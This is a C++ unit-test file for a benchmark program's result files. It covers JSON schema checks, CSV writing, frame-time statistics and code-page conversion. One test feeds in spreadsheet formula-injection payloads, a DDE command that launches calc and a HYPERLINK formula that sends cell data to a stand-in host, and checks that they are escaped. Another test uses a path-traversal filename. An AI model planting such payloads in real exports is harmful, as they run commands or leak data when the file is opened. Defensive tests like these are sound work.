#include <gtest/gtest.h>

#include <rapidjson/document.h>

#include "platform/cp1252_utf8.h"
#include "platform/text_file.h"
#include "result_schema_check.h"
#include "results/frame_times.h"
#include "results/result_data.h"
#include "results/result_file_reader.h"
#include "results/run_statistics.h"

namespace {

std::string Schema() {
    std::string text;
    EXPECT_TRUE(ReadWholeFile(std::string(LURK_SOURCE_DIR) + "/docs/result.schema.json", text));
    return text;
}

RunRecord Run(int number, const std::string& score, std::optional<long> frames = 2000) {
    RunRecord run;
    run.run = number;
    run.warmUp = number == 0;
    run.logFound = true;
    run.scoreText = score;
    run.score = ScoreValue(score);
    run.ended = run.score ? RunEnd::Scored : RunEnd::NoScore;
    run.evidence.frames = frames;
    run.evidence.secondsText = "11.2";
    run.evidence.fpsText = score;
    return run;
}

PassRecord SamplePass() {
    PassRecord pass;
    pass.program = "1.0";
    pass.started = "2026-12-10T13:26:14+01:00";
    pass.report = "result_12_10_2026_1_26_14_PM.htm";
    pass.note = "stock clocks, \"quiet\" fan \xE9t\xE9";
    pass.machine = {{"Operating system", "Microsoft Windows 10 Pro"}, {"CPU speed", "2400 MHz"}};
    pass.options = {"Rivo3V demo", "Standard [ 4:3 ]", "High level", "None", "Anisotropic 16\xD7", "Off", 3, true, {}};
    ResolutionRecord r;
    r.key = "640";
    r.label = "640\xD7" "480";
    r.width = 640;
    r.height = 480;
    r.runs = {Run(0, "171.2"), Run(1, "178.1"), Run(2, "nan", std::nullopt), Run(3, "178.3")};
    r.runs[1].flags.push_back({"windowSize", "The game ran at 800\xD7" "600, not at the resolution asked."});
    r.runs[3].ended = RunEnd::TimeLimit;
    r.runs[3].score.reset();
    pass.resolutions.push_back(r);
    ResolutionRecord none = r;
    none.key = "hdw1";
    none.label = "1280\xD7" "768 (HD WideScreen)";
    none.runs = {Run(0, "")};
    pass.resolutions.push_back(none);
    return pass;
}

TEST(ResultJson, ValidatesAgainstThePublishedSchema) {
    const std::string schema = Schema();
    const PassRecord pass = SamplePass();
    EXPECT_EQ(lurk_test::ResultSchemaErrors(schema, ResultJson(pass)), "");

    // The schema does reject what a reader must refuse.
    std::string wrongVersion = ResultJson(pass);
    wrongVersion.replace(wrongVersion.find("\"formatVersion\": 1"), 18, "\"formatVersion\": 2");
    EXPECT_NE(lurk_test::ResultSchemaErrors(schema, wrongVersion), "");
    std::string badEnd = ResultJson(pass);
    badEnd.replace(badEnd.find("\"noScore\""), 9, "\"crashed\"");
    EXPECT_NE(lurk_test::ResultSchemaErrors(schema, badEnd), "");
}

// A file from a later program with members this one does not know: the published schema
// accepts it (readers ignore them), while this program's own files carry only listed members.
TEST(ResultJson, PublishedSchemaAcceptsMembersAddedLater) {
    const std::string schema = Schema();
    const std::string json = ResultJson(SamplePass());
    const std::vector<std::pair<std::string, std::string>> places = {
        {"\"formatVersion\": 1", "\"formatVersion\": 1, \"addedLater\": 1"},
        {"\"ended\"", "\"addedLater\": [1], \"ended\""},
        {"\"noScore\"", "\"noScore\", \"addedLater\": {}"},
    };
    for (const auto& [at, with] : places) {
        std::string later = json;
        ASSERT_NE(later.find(at), std::string::npos) << at;
        later.replace(later.find(at), at.size(), with);
        EXPECT_EQ(lurk_test::ResultSchemaErrors(schema, later, lurk_test::Members::AnyMore), "") << with;
        EXPECT_NE(lurk_test::ResultSchemaErrors(schema, later), "") << with;
    }
}

// The PC is named only when known: files from before, or from a PC that would not say, still
// follow the schema.
TEST(ResultJson, NamesThePcWhenKnown) {
    const std::string schema = Schema();
    PassRecord pass = SamplePass();
    const std::string anonymous = ResultJson(pass);
    EXPECT_EQ(anonymous.find("\"computer\""), std::string::npos);
    EXPECT_EQ(anonymous.find("\"machineId\""), std::string::npos);
    pass.computerName = "LAB-PC-07";
    pass.machineId = "6f0f3e1c-96b7-4b8e-9d0a-3c2b1a0f9e8d";
    const std::string named = ResultJson(pass);
    EXPECT_EQ(lurk_test::ResultSchemaErrors(schema, named), "");
    rapidjson::Document d;
    ASSERT_FALSE(d.Parse(named.c_str()).HasParseError());
    EXPECT_STREQ(d["computer"].GetString(), "LAB-PC-07");
    EXPECT_STREQ(d["machineId"].GetString(), "6f0f3e1c-96b7-4b8e-9d0a-3c2b1a0f9e8d");
    EXPECT_TRUE(ReadResultFile(named).pass);
}

TEST(ResultJson, FieldsAsReadBack) {
    rapidjson::Document d;
    const std::string json = ResultJson(SamplePass());
    ASSERT_FALSE(d.Parse(json.c_str()).HasParseError());
    EXPECT_STREQ(d["format"].GetString(), "lurkmark-result");
    EXPECT_EQ(d["formatVersion"].GetInt(), 1);
    EXPECT_EQ(std::string(d["note"].GetString()), "stock clocks, \"quiet\" fan \xC3\xA9t\xC3\xA9") << "UTF-8";
    EXPECT_STREQ(d["machine"][1]["label"].GetString(), "CPU speed");
    EXPECT_STREQ(d["options"]["filtering"].GetString(), "Anisotropic 16\xC3\x97");
    EXPECT_TRUE(d["options"]["timeLimitSeconds"].IsNull());
    const auto& res = d["resolutions"][0];
    EXPECT_STREQ(res["label"].GetString(), "640\xC3\x97" "480");
    const auto& runs = res["runs"];
    ASSERT_EQ(runs.Size(), 4u);
    EXPECT_TRUE(runs[0]["warmUp"].GetBool());
    EXPECT_EQ(runs[0]["run"].GetInt(), 0);
    EXPECT_DOUBLE_EQ(runs[1]["score"].GetDouble(), 178.1);
    EXPECT_EQ(runs[1]["frames"].GetInt(), 2000);
    EXPECT_DOUBLE_EQ(runs[1]["seconds"].GetDouble(), 11.2);
    EXPECT_STREQ(runs[1]["flags"][0]["code"].GetString(), "windowSize");
    EXPECT_STREQ(runs[2]["ended"].GetString(), "noScore");
    EXPECT_TRUE(runs[2]["score"].IsNull());
    EXPECT_TRUE(runs[2]["frames"].IsNull());
    EXPECT_STREQ(runs[3]["ended"].GetString(), "timeLimit");
    // One counted scored run: a mean, no deviation.
    EXPECT_DOUBLE_EQ(res["mean"].GetDouble(), 178.1);
    EXPECT_TRUE(res["stddev"].IsNull());
    EXPECT_TRUE(d["resolutions"][1]["mean"].IsNull());
}

// What a pass writes, the Results page and /COMPARE read: the two sides of one format.
TEST(ResultJson, TheWrittenFileIsReadBackAsTheSamePass) {
    const ResultFileReading reading = ReadResultFile(ResultJson(SamplePass()));
    ASSERT_TRUE(reading.pass) << reading.problem;
    const PassSummary& pass = *reading.pass;
    EXPECT_EQ(pass.report, "result_12_10_2026_1_26_14_PM.htm");
    EXPECT_EQ(pass.note, "stock clocks, \"quiet\" fan \xC3\xA9t\xC3\xA9");
    EXPECT_EQ(pass.demo, "Rivo3V demo");
    EXPECT_EQ(pass.runs, 3);
    EXPECT_TRUE(pass.HasFlaggedRun());
    ASSERT_EQ(pass.machine.size(), 2u);
    EXPECT_EQ(pass.machine[1].value, "2400 MHz");
    const ResolutionSummary* r = pass.Resolution("640");
    ASSERT_NE(r, nullptr);
    ASSERT_EQ(r->runs.size(), 4u);
    EXPECT_EQ(r->runs[3].ended, "timeLimit");
    ASSERT_TRUE(r->mean);
    EXPECT_DOUBLE_EQ(*r->mean, 178.1);
    ASSERT_NE(pass.Resolution("hdw1"), nullptr);
    EXPECT_FALSE(pass.Resolution("hdw1")->mean);
}

// A pass with "Record every frame's time": the 640 resolution's counted run 1 has its figures
// and capture file, the pooled figures are the resolution's.
PassRecord FramePass() {
    PassRecord pass = SamplePass();
    pass.options.frameTimes = true;
    ResolutionRecord& r = pass.resolutions[0];
    r.runs[1].frameTimes = ComputeFrameTimeFigures({10, 10, 10, 40});
    r.runs[1].frameTimesFile = FrameCaptureFileName(pass.report, r.key, 1);
    r.frameTimes = r.runs[1].frameTimes;
    return pass;
}

TEST(ResultJson, FrameTimesOnlyWithTheOption) {
    const std::string schema = Schema();
    const std::string without = ResultJson(SamplePass());
    EXPECT_EQ(without.find("frameTimes"), std::string::npos);

    const std::string json = ResultJson(FramePass());
    EXPECT_EQ(lurk_test::ResultSchemaErrors(schema, json), "");
    EXPECT_NE(json.find("\"frameTimes\": true"), std::string::npos);
    // Mean 17.5 ms, 1 % and 0.1 % low at the 40 ms frame, one stutter over 25 ms.
    EXPECT_NE(json.find("\"frameTimes\": {\n            \"frames\": 4,\n            \"averageFps\": 57.14,\n"
                        "            \"low1Fps\": 25.0,\n            \"low01Fps\": 25.0,\n"
                        "            \"p99Ms\": 40.0,\n            \"p999Ms\": 40.0,\n"
                        "            \"worstMs\": 40.0,\n            \"stddevMs\": 12.99,\n"
                        "            \"stutters\": 1,\n"
                        "            \"file\": \"result_12_10_2026_1_26_14_PM_frames_640_run1.csv\"\n          }"),
              std::string::npos)
        << json;

    const ResultFileReading reading = ReadResultFile(json);
    ASSERT_TRUE(reading.pass) << reading.problem;
    const ResolutionSummary& r = reading.pass->resolutions[0];
    ASSERT_TRUE(r.runs[1].frameTimes && r.frameTimes);
    EXPECT_EQ(r.runs[1].frameTimesFile, "result_12_10_2026_1_26_14_PM_frames_640_run1.csv");
    EXPECT_EQ(r.runs[1].frameTimes->frames, 4);
    EXPECT_EQ(r.runs[1].frameTimes->stutters, 1);
    EXPECT_DOUBLE_EQ(r.runs[1].frameTimes->averageFps, 57.14);
    EXPECT_DOUBLE_EQ(r.frameTimes->p99Ms, 40);
    EXPECT_FALSE(r.runs[0].frameTimes);
    EXPECT_EQ(r.runs[0].frameTimesFile, "");
}

// A frame-time object that is not what the program writes makes the file malformed, as any
// other field does; the capture's name may only be a CSV beside the data file.
TEST(ResultJson, MalformedFrameTimesAreTheFilesProblem) {
    const std::string json = ResultJson(FramePass());
    const struct {
        std::string from, to;
        const char* problem;
    } cases[] = {
        {"\"frames\": 4,", "\"frames\": 0,", "resolutions[0].runs[1].frameTimes.frames is not a whole number from 1"},
        {"\"frames\": 4,", "", "resolutions[0].runs[1].frameTimes.frames is missing"},
        {"\"stutters\": 1,", "\"stutters\": 5,", "resolutions[0].runs[1].frameTimes.stutters is more than frames"},
        {"\"low1Fps\": 25.0", "\"low1Fps\": -25.0", "resolutions[0].runs[1].frameTimes.low1Fps is not a number"},
        {"\"worstMs\": 40.0", "\"worstMs\": 1e300", "resolutions[0].runs[1].frameTimes.worstMs is not a number"},
        {"\"p99Ms\": 40.0", "\"p99Ms\": \"40\"", "resolutions[0].runs[1].frameTimes.p99Ms is not a number"},
        {"_run1.csv\"", "_run1.exe\"", "resolutions[0].runs[1].frameTimes.file is not the name of a .csv file"},
        {"\"result_12_10_2026_1_26_14_PM_frames", "\"..\\\\x", "resolutions[0].runs[1].frameTimes.file is not"},
        {"\"frameTimes\": true", "\"frameTimes\": 1", "options.frameTimes is not true or false"},
    };
    for (const auto& c : cases) {
        std::string text = json;
        ASSERT_NE(text.find(c.from), std::string::npos) << c.from;
        text.replace(text.find(c.from), c.from.size(), c.to);
        const ResultFileReading reading = ReadResultFile(text);
        EXPECT_FALSE(reading.pass) << c.to;
        EXPECT_EQ(reading.problem.rfind(std::string("malformed: ") + c.problem, 0), 0u) << reading.problem;
    }
    // The resolution's pooled object is checked as well.
    std::string pooled = json;
    const std::size_t at = pooled.rfind("\"stutters\": 1");
    pooled.replace(at, 14, "\"stutters\": -1");
    EXPECT_EQ(ReadResultFile(pooled).problem,
              "malformed: resolutions[0].frameTimes.stutters is not a whole number from 0");
}

TEST(ResultCsv, QuotingAndRows) {
    struct Case {
        const char* field;
        const char* written;
    };
    const Case cases[] = {{"plain", "plain"},
                          {"a,b", "\"a,b\""},
                          {"say \"hi\"", "\"say \"\"hi\"\"\""},
                          {"two\r\nlines", "\"two\r\nlines\""},
                          {"", ""}};
    for (const Case& c : cases) EXPECT_EQ(CsvField(c.field), c.written) << c.field;

    EXPECT_EQ(CsvHeaderRow(), "started,note,machine,resolution,run,score,frames,seconds,flags,computer\r\n");
    const PassRecord pass = SamplePass();
    const std::string head =
        "2026-12-10T13:26:14+01:00,\"stock clocks, \"\"quiet\"\" fan \xC3\xA9t\xC3\xA9\","
        "Operating system: Microsoft Windows 10 Pro; CPU speed: 2400 MHz,640\xC3\x97" "480,";
    EXPECT_EQ(CsvRows(pass, pass.resolutions[0], CsvColumns::Original),
              head + "0,171.2,2000,11.2,\r\n" +
              head + "1,178.1,2000,11.2,\"The game ran at 800\xC3\x97" "600, not at the resolution asked.\"\r\n" +
              head + "2,,,,\r\n" +
              head + "3,,,,\r\n");
    PassRecord named = pass;
    named.computerName = "LAB-07";
    EXPECT_EQ(CsvRows(named, named.resolutions[1], CsvColumns::Computer), head.substr(0, head.size() - 9) +
                                                              "1280\xC3\x97" "768 (HD WideScreen),0,,,,,LAB-07\r\n");
}

// A note or computer name a spreadsheet would run as a formula is written as text; figures
// (a negative one too) and the other columns are left as they are.
TEST(ResultCsv, FormulaLikeTextsAreWrittenAsText) {
    struct Case {
        const char* text;
        const char* cell;
    };
    const Case cases[] = {{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
                          {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\""},
                          {"-2+3", "'-2+3"},
                          {"@SUM(A1)", "'@SUM(A1)"},
                          {"\t=1", "'\t=1"},
                          {"\r=1", "\"'\r=1\""},
                          {"fan = quiet", "fan = quiet"},
                          {"'quoted", "'quoted"},
                          {"", ""}};
    for (const Case& c : cases) {
        PassRecord pass = SamplePass();
        pass.note = c.text;
        pass.computerName = c.text;
        pass.machine = {{"-CPU", "x"}};
        const std::string row = CsvRows(pass, pass.resolutions[1], CsvColumns::Computer);
        EXPECT_EQ(row, "2026-12-10T13:26:14+01:00," + std::string(c.cell) + ",'-CPU: x,1280\xC3\x97" "768 (HD WideScreen),0,,,,," +
                           c.cell + "\r\n")
            << c.text;
    }
}

// Rows are appended to the table as it is when its lock is taken: a new file gets the header
// with the computer column, a file made before that column keeps its columns, and a last row
// cut short by another writer is ended before the new rows.
TEST(ResultCsv, AppendedBytesFollowTheFileAsItIs) {
    PassRecord pass = SamplePass();
    pass.computerName = "LAB-07";
    const ResolutionRecord& r = pass.resolutions[1];
    const std::string withComputer = CsvRows(pass, r, CsvColumns::Computer);
    const std::string without = CsvRows(pass, r, CsvColumns::Original);
    const std::string oldHeader = std::string(kUtf8Bom) + "started,note,machine,resolution,run,score,frames,seconds,flags";
    const std::string newHeader = std::string(kUtf8Bom) + CsvHeaderRow().substr(0, CsvHeaderRow().size() - 2);
    const struct {
        const char* name;
        AppendedFileState file;
        std::string appended;
    } cases[] = {
        {"new file", {true, "", false}, std::string(kUtf8Bom) + CsvHeaderRow() + withComputer},
        {"file without the column", {false, oldHeader, true}, without},
        {"file with the column", {false, newHeader, true}, withComputer},
        {"last row cut short", {false, newHeader, false}, "\r\n" + withComputer},
        {"header alone, cut short", {false, oldHeader, false}, "\r\n" + without},
    };
    for (const auto& c : cases) EXPECT_EQ(CsvAppendBytes(c.file, pass, r), c.appended) << c.name;
    EXPECT_NE(withComputer.find(",LAB-07\r\n"), std::string::npos);

    // The frame-time columns come in a file made by a pass that records frame times; an older
    // file keeps its columns, and a file with them gets empty cells for a run without figures.
    PassRecord frames = FramePass();
    frames.computerName = "LAB-07";
    const ResolutionRecord& r640 = frames.resolutions[0];
    const std::string frameHeader = CsvHeaderRow(CsvColumns::FrameTimes);
    EXPECT_EQ(frameHeader,
              "started,note,machine,resolution,run,score,frames,seconds,flags,computer,low1Fps,low01Fps,p99Ms\r\n");
    const std::string rows = CsvRows(frames, r640, CsvColumns::FrameTimes);
    EXPECT_NE(rows.find(",0,171.2,2000,11.2,,LAB-07,,,\r\n"), std::string::npos) << rows;
    EXPECT_NE(rows.find("asked.\",LAB-07,25.0,25.0,40.00\r\n"), std::string::npos) << rows;
    EXPECT_EQ(CsvAppendBytes({true, "", false}, frames, r640), std::string(kUtf8Bom) + frameHeader + rows);
    EXPECT_EQ(CsvAppendBytes({false, kUtf8Bom + frameHeader.substr(0, frameHeader.size() - 2), true}, frames, r640),
              rows);
    EXPECT_EQ(CsvAppendBytes({false, newHeader, true}, frames, r640), CsvRows(frames, r640, CsvColumns::Computer));
    EXPECT_EQ(CsvAppendBytes({false, oldHeader, true}, frames, r640), CsvRows(frames, r640, CsvColumns::Original));
    EXPECT_EQ(SideCsvName("LAB-07"), "Lurkmark results LAB-07.csv");
}

TEST(ResultData, MachineLinesAreTheInfoLinesBeforeTheSeparator) {
    const std::vector<std::string> lines = {
        "<body>",
        "   <FONT size=2>The benchmark started at 12/10/2026 1:26:14 PM</FONT><br>",
        "   <FONT size=2><b>Operating system:</b> Microsoft Windows 10 Pro</FONT><br>",
        "   <FONT size=2><b>System memory:</b> 2.0 GB </FONT><br>",
        "   <align=\"left\"><span class=\"style4\">VGA Information</span><br>",
        "   <FONT size=2><b>Graphics card:</b> <i>GeForce</i></FONT><br>",
        "<hr>",
        "   <FONT size=2><b>After:</b> no</FONT><br>"};
    const std::vector<std::pair<std::string, std::string>> expected = {
        {"Operating system", "Microsoft Windows 10 Pro"}, {"System memory", "2.0 GB "}, {"Graphics card", "<i>GeForce</i>"}};
    EXPECT_EQ(MachineLinesOf(lines), expected);
    EXPECT_EQ(DataFileNameOf("result_8_12_2006_20_56_01_2.htm"), "result_8_12_2006_20_56_01_2.json");
}

TEST(Cp1252ToUtf8, EveryRangeOfTheCodePage) {
    EXPECT_EQ(Cp1252ToUtf8("abc"), "abc");
    EXPECT_EQ(Cp1252ToUtf8("\xD7\xE9"), "\xC3\x97\xC3\xA9");
    EXPECT_EQ(Cp1252ToUtf8("\x80\x99"), "\xE2\x82\xAC\xE2\x84\xA2");  // euro sign, trade mark
    EXPECT_EQ(Cp1252ToUtf8("\x81"), "\xC2\x81");
    EXPECT_EQ(Cp1252ToUtf8("\xA0\xFF"), "\xC2\xA0\xC3\xBF");
}

}  // namespace
